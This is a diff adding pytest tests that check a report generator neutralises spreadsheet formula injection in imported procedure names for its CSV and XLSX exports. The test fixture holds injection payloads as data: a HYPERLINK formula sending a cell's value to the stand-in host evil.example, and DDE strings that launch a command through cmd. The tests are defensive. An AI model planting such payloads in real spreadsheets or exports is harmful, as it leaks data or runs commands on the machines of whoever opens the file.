@@ -119,3 +119,64 @@ def test_an_unknown_format_is_refused(report: CoverageReport) -> None:
 
     with pytest.raises(InputRejected):
         render_report(report, "pdf")
+
+
+_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+_HOSTILE_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"
+_HOSTILE_AGENCY = "+1+cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile_report(sqlite_database: Database) -> CoverageReport:
+    """Names from an imported register and procedure catalogue that a spreadsheet would run as formulas."""
+    day = date(2025, 3, 10)
+    rows = [
+        [dossier_code(day, 1), "1.001029", None, None, day, day, "paper"],
+        [dossier_code(day, 2), "2.001234", _HOSTILE_NAME, "-2+3", day, day, "paper"],
+    ]
+    quoted_name = '"' + _HOSTILE_NAME.replace('"', '""') + '"'
+    catalogue = f"code,name,field,agency\n1.001029,{quoted_name},{_HOSTILE_FIELD},{_HOSTILE_AGENCY}\n"
+    with sqlite_database.session() as session:
+        import_procedures(session, catalogue.encode(), SourceFormat.CSV, actor="test")
+        import_register(session, register_csv(rows), SourceFormat.CSV, actor="test")
+    with sqlite_database.session() as session:
+        return compute_coverage(session, parse_period("2025-03"), now=datetime(2025, 4, 1, 2, 0, tzinfo=UTC))
+
+
+def test_imported_names_reach_the_csv_as_text_not_formulas(hostile_report: CoverageReport) -> None:
+    coverage = list(csv.DictReader(io.StringIO(render_report(hostile_report, "csv").decode("utf-8-sig"))))
+    missing = list(
+        csv.DictReader(io.StringIO(render_report(hostile_report, "csv", table="missing").decode("utf-8-sig")))
+    )
+    cells = [value for row in coverage + missing for value in row.values() if value]
+    assert not [v for v in cells if v[0] in "=+-@"], cells
+    karaoke = next(r for r in coverage if r["procedure_code"] == "1.001029")
+    assert (karaoke["procedure_name"], karaoke["field"], karaoke["agency"]) == (
+        "'" + _HOSTILE_NAME,
+        "'" + _HOSTILE_FIELD,
+        "'" + _HOSTILE_AGENCY,
+    )
+    assert "'-2+3" in {r["field"] for r in coverage}
+
+
+def test_imported_names_reach_the_workbook_as_text_not_formulas(hostile_report: CoverageReport, tmp_path) -> None:
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(render_report(hostile_report, "xlsx"))
+    wb = load_workbook(path)
+    formulas = [
+        (ws.title, cell.coordinate, cell.value)
+        for ws in wb
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    procedures = wb[SHEETS[1]]
+    by_code = {procedures.cell(row=r, column=1).value: r for r in range(2, procedures.max_row + 1)}
+    row = by_code["1.001029"]
+    assert [procedures.cell(row=row, column=c).value for c in (2, 3, 4)] == [
+        _HOSTILE_NAME,
+        _HOSTILE_FIELD,
+        _HOSTILE_AGENCY,
+    ]
+    assert "-2+3" in {wb[SHEETS[2]].cell(row=r, column=1).value for r in range(2, wb[SHEETS[2]].max_row + 1)}
